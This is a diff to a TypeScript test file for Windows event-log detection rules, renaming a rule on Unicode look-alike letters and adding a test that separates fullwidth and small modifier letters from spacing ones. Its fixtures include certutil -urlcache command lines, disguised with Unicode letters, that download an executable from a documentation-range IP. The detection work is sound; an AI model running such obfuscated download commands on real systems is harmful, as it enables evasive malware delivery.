@@ -80,7 +80,7 @@ const cases: CatalogueCase[] = [
     [proc4688('C:\\Users\\Public\\a.exe', 'a.exe')], [proc4688('C:\\Users\\bob\\AppData\\Local\\Temp\\ab.exe', 'ab.exe')]],
   ['File System Transaction Used By A Program In A User-Writable Folder (4985)', 'low', 'stealth',
     [transaction('C:\\Users\\Public\\d.exe')], [transaction(`${S32}svchost.exe`)]],
-  ['Windows Tool Command Line With Look-Alike Unicode Letters', 'medium', 'stealth',
+  ['Windows Tool Command Line With Fullwidth Or Small Modifier Letters', 'medium', 'stealth',
     [proc4688(`${S32}certutil.exe`, 'certutil.exe -urlc\uff41che -f http://203.0.113.7/a.exe a.exe')],
     [proc4688(`${S32}certutil.exe`, 'certutil.exe -hashfile "C:\\Users\\bob\\Documents\\R\u00e9sum\u00e9.pdf" SHA256')]],
   ['Program Run From The Default Domain Or Default Domain Controllers Policy Folder', 'medium', 'lateral-movement',
@@ -130,6 +130,17 @@ describe('built-in rules from the Sentinel catalogue: variants', () => {
     expect(hits([regValue('\\REGISTRY\\MACHINE\\SOFTWARE\\Classes\\mscfile\\Shell\\Open\\command', '', '%SystemRoot%\\system32\\mmc.exe "%1" %*', '%%1905', `${S32}msiexec.exe`)]).has(uac)).toBe(false);
     expect(hits([serviceHandle('WinDefend', '%%7185')]).has('Stop Or Reconfiguration Of A Security Agent Service Requested (4656)')).toBe(true);
     expect(hits([serviceHandle('Spooler', '%%7189')]).has('Stop Or Reconfiguration Of A Security Agent Service Requested (4656)')).toBe(false);
+  });
+
+  it('fullwidth and small modifier letters are read here; spacing modifier letters are left to the modifier-letter rule, so one event is reported once', () => {
+    const mine = 'Windows Tool Command Line With Fullwidth Or Small Modifier Letters';
+    const other = 'Windows Tool Arguments Written With Unicode Modifier Letters';
+    const small = hits([proc4688(`${S32}certutil.exe`, 'certutil.exe -urlca\u1d9ce -f http://203.0.113.7/a.exe a.exe')]);
+    expect(small.has(mine)).toBe(true);
+    expect(small.has(other)).toBe(false);
+    const spacing = hits([proc4688(`${S32}certutil.exe`, 'certutil.exe -urlcac\u02b0e -f http://203.0.113.7/a.exe a.exe')]);
+    expect(spacing.has(other)).toBe(true);
+    expect(spacing.has(mine)).toBe(false);
   });
 
   it('a renamed netsh is not excused by its name, and netsh itself is left to the netsh rules', () => {
